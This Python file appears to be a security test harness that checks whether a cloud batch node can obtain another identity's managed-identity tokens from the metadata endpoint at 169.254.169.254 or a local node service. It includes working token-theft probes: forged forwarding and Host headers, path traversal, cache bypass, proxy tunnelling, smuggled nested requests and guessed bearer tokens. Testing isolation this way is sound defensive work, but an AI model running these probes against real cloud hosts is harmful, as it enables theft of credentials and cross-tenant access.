"""Asks metadata endpoints for what is not its own, and the service for what nodes have."""
import socket
import ssl
import urllib.parse

from theft import GIVEN, OWN, VICTIM, attempt, stolen

RESOURCE = "https://batch.core.windows.net/"
ENDPOINT = urllib.parse.urlparse(GIVEN.get("metadata") or "http://169.254.169.254")
TOKEN_PATH = ENDPOINT.path + "/metadata/identity/oauth2/token"


def exchange(data, address=None, family=socket.AF_INET, seconds=1.5):
    with socket.socket(family) as peer:
        peer.settimeout(seconds)
        peer.connect(address or (ENDPOINT.hostname, ENDPOINT.port or 80))
        if data:
            peer.sendall(data)
        received = b""
        try:
            while chunk := peer.recv(65536):
                received += chunk
        except (TimeoutError, ConnectionResetError):
            pass
        return received


def request(query, headers=(), method="GET", target=None, host=ENDPOINT.netloc, body="", metadata=True, version="1.1"):
    query = {"api-version": "2018-02-01", "resource": RESOURCE, **query} if isinstance(query, dict) else query
    text = query if isinstance(query, str) else urllib.parse.urlencode(query, doseq=True)
    lines = [f"{method} {target or TOKEN_PATH}?{text} HTTP/{version}", "Connection: close"]
    lines += [f"Host: {host}"] if host else []
    lines += ["Metadata: true"] if metadata else []
    lines += [f"Content-Length: {len(body)}", "Content-Type: application/x-www-form-urlencoded"] if body else []
    return "\r\n".join([*lines, *headers, "", body]).encode()


NAMES = {
    "client_id": VICTIM["client_id"],
    "object_id": VICTIM["object_id"],
    "mi_res_id": VICTIM["resource_id"],
    "msi_res_id": VICTIM["resource_id"],
}


def ask_by_every_name():
    for name, value in NAMES.items():
        attempt(f"ask by {name}", lambda: stolen(exchange(request({name: value}))))
        attempt(f"ask by {name}, bypassing", lambda: stolen(exchange(request({name: value, "bypass_cache": "true"}))))
        attempt(f"ask by {name} after its own", lambda: stolen(exchange(request({name: [own_name(name), value]}))))
        attempt(f"ask by {name} in other letters", lambda: stolen(exchange(request({name: value.upper()}))))
        attempt(f"ask by {name} in a header", lambda: stolen(exchange(request({}, [f"{name}: {value}"]))))
    both = {"client_id": OWN["client_id"], "object_id": VICTIM["object_id"]}
    attempt("ask by two names", lambda: stolen(exchange(request(both))))
    form = urllib.parse.urlencode({"resource": RESOURCE, "client_id": VICTIM["client_id"]})
    attempt("ask by a form", lambda: stolen(exchange(request("", method="POST", body=form))))
    for path in ("/oauth2/token", "/msi/token", "/metadata/identity/oauth2/../oauth2/token", "//metadata/identity/oauth2/token"):
        target = ENDPOINT.path + path
        attempt(f"ask at {path}", lambda: stolen(exchange(request({"client_id": VICTIM["client_id"]}, target=target))))


def ask_the_service():
    """On its own ports, which a node reaches, or anybody of its machine."""
    main, proxy = (("127.0.0.1", GIVEN["service"][name]) for name in ("main", "proxy"))
    query = {"client_id": VICTIM["client_id"]}
    for guess in ("", "guessed", OWN["client_id"]):
        lines = [
            "GET /agent HTTP/1.1",
            f"Host: localhost:{main[1]}",
            "Upgrade: websocket",
            "Connection: Upgrade",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
            f"Authorization: Bearer {guess}",
            "",
            "",
        ]
        attempt(f"be an agent with '{guess}'", lambda: over_tls("\r\n".join(lines).encode(), main, b" 101 "))
    direct = request(query, host="169.254.169.254", target="/metadata/identity/oauth2/token")
    local = request(query, host=f"localhost:{main[1]}", target="/metadata/identity/oauth2/token")
    whole = request(query, host="169.254.169.254", target="http://169.254.169.254/metadata/identity/oauth2/token")
    attempt("ask the service as if it were the endpoint", lambda: over_tls(direct, main))
    attempt("ask the service by its own name", lambda: over_tls(local, main))
    attempt("ask the proxy", lambda: stolen(exchange(whole, proxy), True))
    tunnel = b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
    attempt("ask the proxy for a tunnel", lambda: b" 200 " in exchange(tunnel, proxy)[:20])


def over_tls(data, address, sign=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection(address, 2) as plain, context.wrap_socket(plain) as peer:
        peer.sendall(data)
        received = b""
        try:
            while chunk := peer.recv(65536):
                received += chunk
        except (TimeoutError, OSError):
            pass
        return sign in received[:20] if sign else stolen(received, True)


def own_name(name):
    return OWN["resource_id"] if name.endswith("res_id") else OWN[name]


def forge():
    """Its own identity would do, and without the forgery it gets a token of it: nothing that was forwarded is to be answered."""
    attempt("ask for its own", lambda: stolen(exchange(request({})), True))
    for header in (
        "X-Forwarded-For: 127.0.0.1",
        "x-forwarded-for: ",
        "X-Forwarded-Host: 169.254.169.254",
        "X-Forwarded-Proto: http",
        "Forwarded: for=127.0.0.1;host=169.254.169.254",
        "Via: 1.1 proxy",
    ):
        attempt(f"forge {header}", lambda: stolen(exchange(request({}, [header])), True))
    for host in ("rebound.example", "169.254.169.254.rebound.example", "169.254.169.254:81", "localhost"):
        attempt(f"forge Host {host}", lambda: stolen(exchange(request({}, host=host)), True))
    url = f"http://{ENDPOINT.netloc}{TOKEN_PATH}"
    attempt("forge a whole URL", lambda: stolen(exchange(request({}, target=url)), True))
    attempt("forge no Metadata header", lambda: stolen(exchange(request({}, metadata=False)), True))
    attempt("forge Metadata: false", lambda: stolen(exchange(request({}, ["Metadata: false"], metadata=False)), True))
    attempt("forge an older HTTP", lambda: stolen(exchange(request({}, ["Via: 1.0 proxy"], version="1.0", host=None)), True))
    inner = request({}, ["X-Forwarded-For: a"]).decode()
    attempt("forge a request within one", lambda: stolen(exchange(request("", method="POST", body=inner)), True))
